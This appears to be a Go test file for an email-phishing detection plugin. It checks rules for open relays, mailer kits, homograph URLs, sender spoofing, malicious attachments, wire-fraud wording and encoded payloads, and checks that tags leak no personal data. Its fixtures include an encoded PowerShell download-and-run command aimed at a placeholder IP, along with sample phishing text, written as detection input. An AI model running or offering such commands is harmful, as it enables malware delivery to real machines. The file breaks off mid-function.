package main

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/decnet/ttp/abi"
	"github.com/decnet/ttp/conform"
	"github.com/decnet/ttp/dispatch"
	"github.com/decnet/ttp/host"
	"github.com/decnet/ttp/rules"
	"github.com/decnet/ttp/sdk/sdktest"
	"github.com/decnet/ttp/store"
)

var ruleIDs = []string{"R0041", "R0042", "R0043", "R0044", "R0045", "R0046", "R0047", "R0048"}

func rulePaths() []string {
	out := make([]string, len(ruleIDs))
	for i, id := range ruleIDs {
		out[i] = filepath.Join("..", "..", "rules", "ttp", id+".yaml")
	}
	return out
}

// newPlugin runs the lifter natively with the rules it ships with.
func newPlugin(t testing.TB) *sdktest.Plugin {
	t.Helper()
	cfg, err := sdktest.ReadRules(rulePaths()...)
	if err != nil {
		t.Fatal(err)
	}
	p, err := sdktest.New(&lifter{}, cfg...)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func emailEvent(id string, payload map[string]any) abi.Event {
	return abi.Event{SourceKind: abi.KindEmail, SourceID: id, Payload: payload}
}

func fired(drafts []abi.TagDraft) []string {
	var out []string
	for _, d := range drafts {
		if !slices.Contains(out, d.RuleID) {
			out = append(out, d.RuleID)
		}
	}
	slices.Sort(out)
	return out
}

func strs(s ...string) []any {
	out := make([]any, len(s))
	for i, v := range s {
		out[i] = v
	}
	return out
}

func TestRules(t *testing.T) {
	p := newPlugin(t)
	sixForeign := strs("a.one@gmail.example", "b.two@yahoo.example", "c.three@hotmail.example",
		"d.four@mailru.example", "e.five@qq.example", "f.six@gmx.example")
	for _, tc := range []struct {
		name    string
		payload map[string]any
		want    []string
	}{
		{"empty", map[string]any{}, nil},
		{"plain note", map[string]any{
			"from": "hr@decoy-corp.example", "return_path": "hr@decoy-corp.example",
			"rcpt": strs("j.doe@decoy-corp.example"), "subject": "Lunch on Friday",
			"body_text": "See you at noon.", "dkim": "pass", "spf": "pass"}, nil},

		{"R0041 relay to six foreign recipients", map[string]any{
			"from": "promo@cheap-watches.example", "return_path": "promo@cheap-watches.example",
			"rcpt": sixForeign, "spf": "pass", "dkim": "none"}, []string{"R0041"}},
		{"R0041 four foreign recipients", map[string]any{
			"from": "promo@cheap-watches.example", "rcpt": sixForeign[:4]}, nil},
		{"R0041 decoy's own sender", map[string]any{
			"from": "news@mail.decoy-corp.example", "rcpt": sixForeign}, nil},
		{"R0041 recipients at the decoy's subdomains", map[string]any{
			"from": "promo@cheap-watches.example",
			"rcpt": strs("a@hq.decoy-corp.example", "b@HQ.DECOY-CORP.EXAMPLE", "c@acme-logistics.example",
				"d@northwind-labs.example", "e@eu.acme-logistics.example", "f@decoy-corp.example")}, nil},

		{"R0042 campaign", map[string]any{
			"from": "it-support@helpdesk-portal.example", "rcpt": strs("a@decoy-corp.example", "b@decoy-corp.example", "c@decoy-corp.example"),
			"simhash_seen_count": 57, "dkim": "pass", "spf": "pass"}, []string{"R0042"}},
		{"R0042 seen often, one recipient", map[string]any{
			"from": "it-support@helpdesk-portal.example", "rcpt": strs("a@decoy-corp.example"),
			"simhash_seen_count": 570}, nil},
		{"R0042 signed newsletter", map[string]any{
			"from": "news@vendor.example", "rcpt": strs("a@decoy-corp.example", "b@decoy-corp.example", "c@decoy-corp.example"),
			"simhash_seen_count": 900, "dkim": "pass", "spf": "pass", "return_path": "bounce@vendor.example",
			"headers": map[string]any{"list-unsubscribe": "<https://vendor.example/u>"}}, nil},
		{"R0042 unsigned list header does not exempt", map[string]any{
			"from": "news@vendor.example", "rcpt": strs("a@decoy-corp.example", "b@decoy-corp.example", "c@decoy-corp.example"),
			"simhash_seen_count": 900, "dkim": "none",
			"headers": map[string]any{"list-unsubscribe": "<https://vendor.example/u>"}}, []string{"R0042"}},

		{"R0043 PHPMailer", map[string]any{"headers": map[string]any{"x-mailer": "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"}}, []string{"R0043"}},
		{"R0043 script header", map[string]any{"headers": map[string]any{"x-php-originating-script": "33:mailer.php"}}, []string{"R0043"}},
		{"R0043 Outlook", map[string]any{"headers": map[string]any{"x-mailer": "Microsoft Outlook 16.0"}}, nil},
		{"R0043 kit named in the subject only", map[string]any{"subject": "[PHPMailer/PHPMailer] Release v6.9.3",
			"headers": map[string]any{"subject": "[PHPMailer/PHPMailer] Release v6.9.3"}}, nil},

		{"R0044 punycode paypal", map[string]any{"urls": strs("https://xn--pypal-4ve.example/login?id=7731")}, []string{"R0044"}},
		{"R0044 unicode written", map[string]any{"urls": strs("http://www.gооgle.example/")}, []string{"R0044"}},
		{"R0044 greek omicron", map[string]any{"urls": strs("https://xn--amazn-uce.example/")}, []string{"R0044"}},
		{"R0044 german IDN", map[string]any{"urls": strs("https://xn--mnchen-3ya.de/rathaus")}, nil},
		{"R0044 all cyrillic", map[string]any{"urls": strs("https://xn--e1afmkfd.xn--p1ai/")}, nil},
		{"R0044 japanese", map[string]any{"urls": strs("https://xn--r8jz45g.jp/")}, nil},
		{"R0044 broken punycode", map[string]any{"urls": strs("https://xn--99999999999.example/")}, nil},

		{"R0045 return path elsewhere, unauthenticated", map[string]any{
			"from": "security@paypal.example", "return_path": "bounce@bulk-sender.example", "dkim": "none", "spf": "pass"}, []string{"R0045"}},
		{"R0045 spf fail, aligned", map[string]any{
			"from": "billing@decoy-corp.example", "return_path": "billing@decoy-corp.example", "dkim": "none", "spf": "fail"}, []string{"R0045"}},
		{"R0045 display name address", map[string]any{
			"from": "jdoe.ceo@freemail.example", "return_path": "jdoe.ceo@freemail.example", "dkim": "pass", "spf": "pass",
			"headers": map[string]any{"from": `"ceo@decoy-corp.example" <jdoe.ceo@freemail.example>`}}, []string{"R0045"}},
		{"R0045 ESP signed", map[string]any{
			"from": "orders@shop.example", "return_path": "bounces+123@sendgrid.example", "dkim": "pass", "spf": "pass"}, nil},
		{"R0045 subdomain return path", map[string]any{
			"from": "noreply@github.example", "return_path": "bounce@em.github.example", "dkim": "none", "spf": "pass"}, nil},
		{"R0045 no auth results", map[string]any{
			"from": "a@one.example", "return_path": "b@two.example"}, nil},
		{"R0045 display name same org", map[string]any{
			"from": "jane@mail.corp.example", "headers": map[string]any{"from": `"jane@corp.example" <jane@mail.corp.example>`}}, nil},

		{"R0046 macro document", map[string]any{"attachments": []any{map[string]any{
			"filename": "Invoice_2291.DOCM", "content_type": "application/octet-stream", "sha256": strings.Repeat("ab", 32), "size": 31000}}}, []string{"R0046"}},
		{"R0046 double extension and trailing dot", map[string]any{"attachments": []any{map[string]any{"filename": "scan.pdf.exe. "}}}, []string{"R0046"}},
		{"R0046 listed sha256", map[string]any{"attachments": []any{map[string]any{
			"filename": "test.txt", "sha256": "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"}}}, []string{"R0046"}},
		{"R0046 pdf", map[string]any{"attachments": []any{map[string]any{"filename": "iso_9001_certificate.pdf", "content_type": "application/pdf"}}}, nil},

		{"R0047 BEC", map[string]any{"subject": "URGENT request",
			"body_text": "Are you at your desk? I need you to process a payment by wire transfer. I'm in a meeting."}, []string{"R0047"}},
		{"R0047 one body keyword", map[string]any{"subject": "Wire transfer confirmation",
			"body_text": "Your wire transfer of EUR 4,200.00 was executed."}, nil},
		{"R0047 no subject keyword", map[string]any{"subject": "Invoice 2231",
			"body_text": "Please process the payment by end of day to our new bank details."}, nil},
		{"R0047 keyword inside a word", map[string]any{"subject": "Wireless survey",
			"body_text": "Please process the payment by end of day."}, nil},

		{"R0048 base64", map[string]any{"body_text": "run this:\npowershell -nop -w hidden -enc " + psEnc("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1'); Start-Sleep 5")}, []string{"R0048"}},
		{"R0048 hex", map[string]any{"body_text": "payload=" + strings.Repeat("4d5a9000030000000400", 11)}, []string{"R0048"}},
		{"R0048 wrapped base64", map[string]any{"body_text": "data:\n" + wrap(base64.StdEncoding.EncodeToString([]byte(strings.Repeat("MZ\x90\x00 binary stage ", 12))), 76)}, []string{"R0048"}},
		{"R0048 tracking url", map[string]any{"body_text": "Click https://t.example/c?d=" + base64.URLEncoding.EncodeToString([]byte(strings.Repeat("campaign=42&user=17&", 15)))}, nil},
		{"R0048 pgp signature", map[string]any{"body_text": "Signed.\n-----BEGIN PGP SIGNATURE-----\n\n" + wrap(base64.StdEncoding.EncodeToString([]byte(strings.Repeat("sig\x01\x02", 80))), 64) + "\n-----END PGP SIGNATURE-----\n"}, nil},
		{"R0048 ssh key", map[string]any{"body_text": "my key: ssh-rsa " + base64.StdEncoding.EncodeToString([]byte(strings.Repeat("\x00\x00\x00\x07ssh-rsa key material ", 14))) + " admin@laptop"}, nil},
		{"R0048 checksums", map[string]any{"body_text": strings.Repeat("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n", 6)}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			drafts, err := p.Tag(emailEvent("t-"+tc.name, tc.payload))
			if err != nil {
				t.Fatal(err)
			}
			if got := fired(drafts); !slices.Equal(got, tc.want) {
				t.Fatalf("fired %v, want %v (drafts %+v)", got, tc.want, drafts)
			}
		})
	}
}

// psEnc is PowerShell's -EncodedCommand form of cmd: base64 of UTF-16LE.
func psEnc(cmd string) string {
	u := utf16.Encode([]rune(cmd))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func wrap(s string, width int) string {
	var b strings.Builder
	for len(s) > width {
		b.WriteString(s[:width])
		b.WriteByte('\n')
		s = s[width:]
	}
	b.WriteString(s)
	return b.String()
}

func TestEvidence(t *testing.T) {
	p := newPlugin(t)
	sha := "2d91d41f141a3c0b6eb10acf146733d496a9baa2c190c689aa40ef2dadc8f2fc"
	drafts, err := p.Tag(emailEvent("ev-1", map[string]any{
		"from":               "security@paypa1-support.example",
		"return_path":        "bounce-7731@mailer.example.net",
		"rcpt":               strs("billing@decoy-corp.example", "ceo@decoy-corp.example"),
		"subject":            "Urgent: wire transfer needed today",
		"headers":            map[string]any{"x-mailer": "Leaf PHPMailer 2.8", "x-php-originating-script": "1001:send.php"},
		"body_text":          "Please process the payment before noon.",
		"body_sha256":        sha,
		"simhash_seen_count": 214,
		"urls":               strs("https://xn--pypal-4ve.example/login?id=7731"),
		"attachments":        []any{map[string]any{"filename": "invoice_7731.pdf.exe", "sha256": strings.ToUpper(sha)}},
		"dkim":               "none",
		"spf":                "softfail",
	}))
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, d := range drafts {
		ev, _ := abi.CanonicalJSON(map[string]any(d.Evidence))
		got[d.RuleID+" "+d.TechniqueID] = fmt.Sprintf("%.2f %s", d.Confidence, ev)
	}
	want := map[string]string{
		"R0043 T1566": `0.50 {"body_sha256":"` + sha + `","header_names":["x-mailer","x-php-originating-script"],"mailer_kit":"Leaf PHPMailer"}`,
		"R0044 T1566": `0.70 {"body_sha256":"` + sha + `","scripts":["cyrillic","latin"],"url_hosts":["xn--pypal-4ve.example"]}`,
		"R0044 T1583": `0.60 {"body_sha256":"` + sha + `","scripts":["cyrillic","latin"],"url_hosts":["xn--pypal-4ve.example"]}`,
		"R0045 T1672": `0.60 {"body_sha256":"` + sha + `","dkim":"none","from_domain":"paypa1-support.example","masquerade":["return_path_mismatch","spf_fail"],"return_path_domain":"mailer.example.net","spf":"softfail"}`,
		"R0046 T1566": `0.80 {"attachment_match":[".exe"],"attachment_sha256s":["` + sha + `"],"body_sha256":"` + sha + `"}`,
		"R0047 T1656": `0.60 {"body_sha256":"` + sha + `","keywords":["urgent","wire","wire transfer","before noon","process the payment"]}`,
	}
	// Every key a draft carries is one its rule keeps: nothing is stripped by the host.
	fields := map[string][]string{}
	for _, path := range rulePaths() {
		r, err := rules.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		fields[r.ID] = r.EvidenceFields
	}
	evs, _ := leakEvents()
	for _, ev := range evs {
		more, err := p.Tag(ev)
		if err != nil {
			t.Fatal(err)
		}
		drafts = append(drafts, more...)
	}
	for _, d := range drafts {
		for k := range d.Evidence {
			if !slices.Contains(fields[d.RuleID], k) {
				t.Errorf("%s draft carries %s, which its evidence_fields %v would strip", d.RuleID, k, fields[d.RuleID])
			}
		}
	}
	for k, w := range want {
		if got[k] != w {
			t.Errorf("%s:\n got %s\nwant %s", k, got[k], w)
		}
	}
	if len(got) != len(want) {
		t.Errorf("drafts %v, want exactly %d", got, len(want))
	}
}

func TestConfigureRejects(t *testing.T) {
	p, err := sdktest.New(&lifter{})
	if err != nil {
		t.Fatal(err)
	}
	emit := []abi.EmitConfig{{TechniqueID: "T1566", Tactic: "initial-access", Confidence: 0.5}}
	for _, tc := range []struct {
		kind   string
		params map[string]any
		msg    string
	}{
		{"lifter:email_nope", nil, "is not one of"},
		{"lifter:email_open_relay", map[string]any{"min_recipients": 5.0}, "decoy_domains must list"},
		{"lifter:email_open_relay", map[string]any{"min_recipients": 0.0, "decoy_domains": []any{"a.example"}}, "min_recipients must be at least 1"},
		{"lifter:email_open_relay", map[string]any{"decoy_domains": []any{"not a domain"}}, "is not a domain name"},
		{"lifter:email_mass_phishing", map[string]any{"min_seen_count": "20"}, "params.min_seen_count: want an integer"},
		{"lifter:email_kit_mailer", map[string]any{}, "set mailer_kits or script_headers"},
		{"lifter:email_idn_url", map[string]any{"confusable_scripts": []any{"Klingon"}}, "is not a Unicode script name"},
		{"lifter:email_idn_url", map[string]any{"confusable_scripts": []any{"latin"}}, "leave it out"},
		{"lifter:email_sender_masquerade", map[string]any{"spf_fail": []any{"pass"}}, "not an SPF failure result"},
		{"lifter:email_malicious_attachment", map[string]any{"extensions": []any{"docm"}}, "must start with a dot"},
		{"lifter:email_malicious_attachment", map[string]any{"sha256s": []any{"abc"}}, "not 64 hex digits"},
		{"lifter:email_bec", map[string]any{"subject_keywords": []any{"urgent"}}, "must both list keywords"},
		{"lifter:email_encoded_payload", map[string]any{"min_base64_run": 4.0}, "at least 16"},
		{"lifter:email_encoded_payload", map[string]any{"min_base64_rn": 400.0}, "unknown to this lifter"},
	} {
		rejected, err := p.Configure(abi.RuleConfig{ID: "R0999", Kind: tc.kind, AppliesTo: []string{abi.KindEmail}, Params: tc.params, Emits: emit})
		if err != nil {
			t.Fatal(err)
		}
		if len(rejected) != 1 || !strings.Contains(rejected[0].Message, tc.msg) {
			t.Errorf("%s %v: rejected %+v, want a message containing %q", tc.kind, tc.params, rejected, tc.msg)
		}
	}
}

func TestPunycode(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"pypal-4ve", "p\u0430ypal"},
		{"80ak6aa92e", "\u0430\u0440\u0440\u04cf\u0435"},
		{"mnchen-3ya", "münchen"},
		{"bcher-kva", "bücher"},
		{"e1afmkfd", "пример"},
		{"amazn-uce", "amaz\u03bfn"},
		// RFC 3492 section 7.1 samples (A), (B), (L), (R).
		{"egbpdaj6bu4bxfgehfvwxn", "\u0644\u064A\u0647\u0645\u0627\u0628\u062A\u0643\u0644\u0645\u0648\u0634\u0639\u0631\u0628\u064A\u061F"},
		{"ihqwcrb4cv8a8dqg056pqjye", "\u4ED6\u4EEC\u4E3A\u4EC0\u4E48\u4E0D\u8BF4\u4E2D\u6587"},
		{"3B-ww4c5e180e575a65lsy2b", "3\u5E74B\u7D44\u91D1\u516B\u5148\u751F"},
		{"-> $1.00 <--", "-> $1.00 <-"},
		// Upper-case digits decode like lower-case ones; basic code points keep their case.
		{"PYPAL-4VE", "P\u0430YPAL"},
	} {
		got, err := decodePunycode(tc.in, nil)
		if err != nil || string(got) != tc.want {
			t.Errorf("decode %q = %q, %v; want %q", tc.in, string(got), err, tc.want)
		}
	}
	for _, bad := range []string{"99999999999", "a-\u00e9", "abc-!", "zzzzzzzzzzzzzzzzzzzzzzzzzzzzzz9", strings.Repeat("a", 300)} {
		if got, err := decodePunycode(bad, nil); err == nil {
			t.Errorf("decode %q = %q, want an error", bad, string(got))
		}
	}
}

func FuzzPunycode(f *testing.F) {
	for _, s := range []string{"pypal-4ve", "egbpdaj6bu4bxfgehfvwxn", "-> $1.00 <--", "99999999999"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		decodePunycode(s, nil) // must not panic or loop
	})
}

func FuzzText(f *testing.F) {
	for _, s := range []string{"x \\x4d\\x5a powershell -enc SQBFAFgA", "-----BEGIN PGP\nAb1\n-----END ", "https://u:p@xn--pypal-4ve.example:80/",
		`"a@b.example" <c@d.example>`, "Wire transfers asap", "ssh-rsa AAAA"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		b, h := longestRuns(s, true, 0)
		if b > len(s) || h > len(s) {
			t.Fatalf("runs %d, %d longer than the text (%d)", b, h, len(s))
		}
		for _, d := range []string{addrDomain(s), displayDomain(s), urlHost(s)} {
			if d != "" && !validHost(d) {
				t.Fatalf("%q is not a host name", d)
			}
		}
		containsWordFold(s, "wire transfer")
		for _, c := range []byte("@<:") {
			if got, want := lastIndexByte(s, c), strings.LastIndexByte(s, c); got != want {
				t.Fatalf("lastIndexByte(%q, %q) = %d, want %d", s, c, got, want)
			}
		}
		for _, kit := range []string{"PHPMailer", "leaf", "K", "x"} {
			if got, want := kitIn(s, kit, kitByHost(kit)), containsFold(s, kit); got != want {
				t.Fatalf("kitIn(%q, %q) = %v, containsFold %v", s, kit, got, want)
			}
		}
		k := newKWSet([]string{"gift card", "überweisung", "wire", "wire transfer", "a", "asap"})
		if k.lits == nil {
			t.Fatal("the host refused the literal set")
		}
		lits, guest := make([]bool, len(k.words)), make([]bool, len(k.words))
		var buf []byte
		n := k.match(s, &buf, lits)
		m := k.matchASCII(lowerInto(&buf, s), guest)
		if lits[1] { // überweisung is not a literal: containsWordFold's
			guest[1], m = true, m+1
		}
		if m != n || !slices.Equal(lits, guest) {
			t.Fatalf("%q: the host's literals found %v (%d), the guest's matcher %v (%d)", s, lits, n, guest, m)
		}
	})
}

func TestHelpers(t *testing.T) {
	for in, want := range map[string]string{
		"user@Example.COM":               "example.com",
		`"Name" <user@mail.example.org>`: "mail.example.org",
		"<bounce@x.example.>":            "x.example",
		"postmaster":                     "",
		"":                               "",
		"a@b":                            "",
		"a@exa mple.com":                 "",
		"a@пример.рф":                    "пример.рф",
	} {
		if got := addrDomain(in); got != want {
			t.Errorf("addrDomain(%q) = %q, want %q", in, got, want)
		}
	}
	for in, want := range map[string]string{
		"https://user:pw@Host.Example:8443/p?q=1": "Host.Example",
		"www.example.com/path":                    "www.example.com",
		"mailto:someone@example.com":              "",
		"http://[2001:db8::1]/":                   "",
		"https://xn--pypal-4ve.example#frag":      "xn--pypal-4ve.example",
		"http://198.51.100.7/x":                   "198.51.100.7",
	} {
		if got := urlHost(in); got != want {
			t.Errorf("urlHost(%q) = %q, want %q", in, got, want)
		}
	}
	for in, want := range map[string]string{
		"mail.example.com": "example.com", "example.com": "example.com", "a.b.example.co.uk": "example.co.uk",
		"example.co.uk": "example.co.uk", "localhost": "localhost", "em.github.example": "github.example",
	} {
		if got := orgDomain(in); got != want {
			t.Errorf("orgDomain(%q) = %q, want %q", in, got, want)
		}
	}
	for _, tc := range []struct {
		s, kw string
		want  bool
	}{
		{"Wire transfer", "wire", true}, {"wires", "wire", true}, {"wireless", "wire", false},
		{"GIFT CARDS today", "gift card", true}, {"pre-wire", "wire", true}, {"rewire", "wire", false},
		{"Überweisung heute", "überweisung", true}, {"can't take calls", "can't take calls", true},
	} {
		if got := containsWordFold(tc.s, tc.kw); got != tc.want {
			t.Errorf("containsWordFold(%q, %q) = %v", tc.s, tc.kw, got)
		}
	}
	if b, h := longestRuns(`x \x4d\x5a\x90\x00 "`+strings.Repeat("Qz7", 70)+`".`, true, 0); b != 210 || h != 8 {
		t.Errorf("longestRuns = %d, %d; want 210, 8", b, h)
	}
}

// ---- Personal data never reaches a tag ----

// leakEvents are messages full of addresses, bodies, full URLs, header values and encoded
// payloads, built so that every rule fires; secrets are the strings none of it may leave in a
// tag, whatever the rules' evidence_fields say.
func leakEvents() (evs []abi.Event, secrets []string) {
	stage := "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage2-secret-alice.ps1')"
	enc := psEnc(stage)
	hexStage := "MZ secret dropper for bob.secret-7731 at 203.0.113.99 with key hunter2-key-material!!"
	hexBlob := hex.EncodeToString([]byte(hexStage + hexStage))
	body1 := "Hi Alice Kowalski,\nI need you to process a payment today by wire transfer to IBAN DE89 3704 0044 0532 0130 00. " +
		"I am in a meeting and cannot take calls. Write to ceo.private.4417@freemail-box.example only.\n" +
		"Login at https://xn--pypal-4ve.example/login?session=SECRET-TOKEN-99&user=alice.kowalski%40decoy-corp.example\n" +
		"Then run: powershell -nop -w hidden -enc " + enc + "\n"
	body2 := "Dear bob.secret-7731@gmail.example, your parcel 77-4410-SECRET is held.\nstage=" + hexBlob + "\n" +
		"Track: http://user:hunter2-pass@xn--80ak6aa92e.example:8080/private/track?parcel=77-4410-SECRET\n"
	url1 := "https://xn--pypal-4ve.example/login?session=SECRET-TOKEN-99&user=alice.kowalski%40decoy-corp.example"
	url2 := "http://user:hunter2-pass@xn--80ak6aa92e.example:8080/private/track?parcel=77-4410-SECRET"
	rcpt := strs("alice.kowalski@decoy-corp.example", "bob.secret-7731@gmail.example", "carol.nguyen.88@yahoo.example",
		"dan.oreilly.1979@hotmail.example", "erin.hoffmann@mailru.example", "frank.zed.55@qq.example")
	sum := func(s string) string { h := sha256.Sum256([]byte(s)); return hex.EncodeToString(h[:]) }
	evs = []abi.Event{
		{SourceKind: abi.KindEmail, SourceID: "leak-1", AttackerUUID: "9a4d2c1b-8e7f-4a60-b5d3-2f1e0c9b8a77",
			ObservedAt: time.Date(2026, 11, 27, 4, 1, 2, 0, time.UTC), Payload: map[string]any{
				"from":        "ceo.private.4417@freemail-box.example",
				"return_path": "bounce-a8f1c2@relay-mailer.example",
				"rcpt":        rcpt,
				"subject":     "Urgent wire transfer for Alice Kowalski",
				"headers": map[string]any{
					"from":                     `"jan.de.vries@decoy-corp.example" <ceo.private.4417@freemail-box.example>`,
					"to":                       "alice.kowalski@decoy-corp.example",
					"reply-to":                 "payout.desk.3321@freemail-box.example",
					"subject":                  "Urgent wire transfer for Alice Kowalski",
					"x-mailer":                 "Leaf PHPMailer 2.8 [build for alice.kowalski@decoy-corp.example]",
					"x-php-originating-script": "1001:send-alice-kowalski.php",
					"received":                 "from relay-mailer.example ([198.51.100.7]) by smtp-ams-01; Fri, 27 Nov 2026 04:01:01 +0000\nfrom [10.0.0.5] by relay-mailer.example",
				},
				"body_text":          body1,
				"body_sha256":        sum(body1),
				"body_simhash":       "c3a5f0e19b2d4476",
				"simhash_seen_count": 240,
				"urls":               strs(url1),
				"attachments": []any{map[string]any{"filename": "Salary_Review_Alice_Kowalski.docm",
					"content_type": "application/vnd.ms-word.document.macroenabled.12",
					"sha256":       sum("docm"), "size": 48213}},
				"dkim": "none",
				"spf":  "softfail",
			}},
		{SourceKind: abi.KindEmail, SourceID: "leak-2", ObservedAt: time.Date(2026, 11, 27, 4, 2, 0, 0, time.UTC), Payload: map[string]any{
			"from":        "DHL Express <tracking.bob.secret@parcel-notice.example>",
			"return_path": "",
			"rcpt":        strs("bob.secret-7731@gmail.example"),
			"subject":     "Parcel 77-4410-SECRET for Bob",
			"headers":     map[string]any{"from": `"DHL Express" <tracking.bob.secret@parcel-notice.example>`, "x-mailer": "PHP/7.4.33 (secret-host-alpha)"},
			"body_text":   body2,
			"body_sha256": sum(body2),
			"urls":        strs(url2),
			"attachments": []any{map[string]any{"filename": "Parcel_Label_Bob_Secret.iso", "content_type": "application/x-iso9660-image",
				"sha256": sum("iso"), "size": 1048576}},
			"dkim": "fail",
			"spf":  "none",
		}},
	}
	secrets = []string{
		// addresses and their local parts
		"alice.kowalski", "bob.secret-7731", "carol.nguyen.88", "dan.oreilly.1979", "erin.hoffmann", "frank.zed.55",
		"ceo.private.4417", "bounce-a8f1c2", "jan.de.vries", "payout.desk.3321", "tracking.bob.secret", "@",
		// subject, body, header values, file names
		"Alice Kowalski", "Parcel 77-4410", "77-4410-SECRET", "process a payment today", "IBAN DE89", "cannot take calls. Write",
		"Leaf PHPMailer 2.8", "send-alice-kowalski.php", "secret-host-alpha", "PHP/7.4.33", "10.0.0.5", "198.51.100.7",
		"Salary_Review", "Parcel_Label", "DHL Express",
		// full URLs, their paths, queries and user info
		url1, url2, "/login", "SECRET-TOKEN-99", "session=", "/private/track", "hunter2", "user:", "http", "%40",
		// encoded payloads and what they decode to
		enc, enc[:40], hexBlob, hexBlob[:40], stage, "stage2-secret", "DownloadString", "hunter2-key-material", "203.0.113.99",
	}
	return evs, secrets
}

// allKeysRules parses the shipped rules with evidence_fields widened to every key the
// lifter declares, so that the host strips nothing: only the lifter's own restraint keeps
// personal data out.
func allKeysRules(t *testing.T, keys []string) []*rules.Rule {
	t.Helper()
	re := regexp.MustCompile(`(?m)^evidence_fields:.*$`)
	var out []*rules.Rule
	for i, path := range rulePaths() {
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		data = re.ReplaceAll(data, []byte("evidence_fields: ["+strings.Join(keys, ", ")+"]"))
		r, err := rules.Parse(ruleIDs[i]+".yaml", data)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, r)
	}
	return out
}

// checkNoLeak fails when any secret occurs (ignoring case) in text, and checks that every
// evidence value has a shape personal data cannot take.
func checkNoLeak(t *testing.T, what, text string, secrets []string) {
	t.Helper()
	low := strings.ToLower(text)
	for _, s := range secrets {
		if strings.Contains(low, strings.ToLower(s)) {
			t.Errorf("%s holds %q:\n%s", what, s, text)
		}
	}
}

var (
	hostRE  = regexp.MustCompile(`^[a-z0-9-]+(\.[a-z0-9-]+)+$`)
	sha256R = regexp.MustCompile(`^[0-9a-f]{64}$`)
)

// checkShapes checks every evidence value against what its key may hold.
func checkShapes(t *testing.T, rule string, ev map[string]any, allowed map[string][]string) {
	t.Helper()
	list := func(v any) []string {
		switch x := v.(type) {
		case []string:
			return x
		case []any:
			out := make([]string, len(x))
			for i, e := range x {
				s, ok := e.(string)
				if !ok {
					t.Errorf("%s: list entry %v is not a string", rule, e)
				}
				out[i] = s
			}
			return out
		case string:
			return []string{x}
		}
		return nil
	}
	for k, v := range ev {
		var ok func(string) bool
		switch k {
		case "rcpt_count", "relayed_count", "simhash_seen_count", "run_length":
			switch v.(type) {
			case int64, float64, int:
			default:
				t.Errorf("%s: %s = %#v, want a number", rule, k, v)
			}
			continue
		case "body_sha256", "attachment_sha256s":
			ok = sha256R.MatchString
		case "rcpt_domains", "from_domain", "return_path_domain", "display_domain", "url_hosts":
			ok = hostRE.MatchString
		default:
			ok = func(s string) bool { return slices.Contains(allowed[k], s) }
		}
		for _, s := range list(v) {
			if !ok(s) {
				t.Errorf("%s: evidence %s = %q is not a value that key may carry", rule, k, s)
			}
		}
	}
}

// allowedValues lists the vocabulary of the discriminator keys for the shipped rules.
func allowedValues(rs []*rules.Rule) map[string][]string {
	out := map[string][]string{
		"scripts":      {"latin", "cyrillic", "greek", "armenian", "cherokee", "georgian", "coptic"},
		"dkim":         dkimResults,
		"spf":          spfResults,
		"masquerade":   {"return_path_mismatch", "spf_fail", "dkim_fail", "display_name_address"},
		"encoding":     {"base64", "hex"},
		"header_names": {"x-mailer", "x-php-originating-script", "x-php-script"},
	}
	for _, r := range rs {
		for name, v := range r.Match.Params {
			l, ok := v.([]any)
			if !ok {
				continue
			}
			key := map[string]string{"mailer_kits": "mailer_kit", "extensions": "attachment_match", "content_types": "attachment_match",
				"subject_keywords": "keywords", "body_keywords": "keywords"}[name]
			for _, e := range l {
				if s, ok := e.(string); ok && key != "" {
					out[key] = append(out[key], strings.ToLower(s), s)
				}
			}
		}
	}
	out["attachment_match"] = append(out["attachment_match"], "listed_sha256")
	return out
}

func TestNoPersonalDataInDrafts(t *testing.T) {
	base := newPlugin(t)
	keys := base.Manifest().EvidenceKeys
	rs := allKeysRules(t, keys)
	p, err := sdktest.New(&lifter{}, sdktest.FromRules(rs...)...)
	if err != nil {
		t.Fatal(err)
	}
	allowed := allowedValues(rs)
	evs, secrets := leakEvents()
	seen := map[string]bool{}
	for _, ev := range evs {
		drafts, err := p.Tag(ev)
		if err != nil {
			t.Fatal(err)
		}
		for _, d := range drafts {
			seen[d.RuleID] = true
			if len(d.Evidence) == 0 {
				t.Errorf("%s: no evidence at all: the test would prove nothing", d.RuleID)
			}
			js, err := abi.CanonicalJSON(map[string]any(d.Evidence))
			if err != nil {
				t.Fatal(err)
			}
			checkNoLeak(t, d.RuleID+" draft evidence", string(js), secrets)
			checkShapes(t, d.RuleID, d.Evidence, allowed)
		}
	}
	for _, id := range ruleIDs {
		if !seen[id] {
			t.Errorf("%s never fired on the leak events", id)
		}
	}
}

// TestNoPersonalDataThroughHost loads the built plugins/email.wasm into the real host
// (compiler, dispatcher, Finish), with every rule's evidence_fields widened to every key,
// stores the tags in a SQLite store and checks both the tags read back and the database file.
func TestNoPersonalDataThroughHost(t *testing.T) {
	wasm := filepath.Join("..", "email.wasm")
	ci := os.Getenv("CI") == "true"
	st, err := os.Stat(wasm)
	if err != nil {
		if ci {
			t.Fatalf("%s: %v (CI builds it with `make plugins` first)", wasm, err)
		}
		t.Skipf("%s is not built (run `make plugins`); the native test covers the lifter itself", wasm)
	}
	srcs, _ := filepath.Glob("*.go")
	for _, s := range srcs {
		if strings.HasSuffix(s, "_test.go") {
			continue
		}
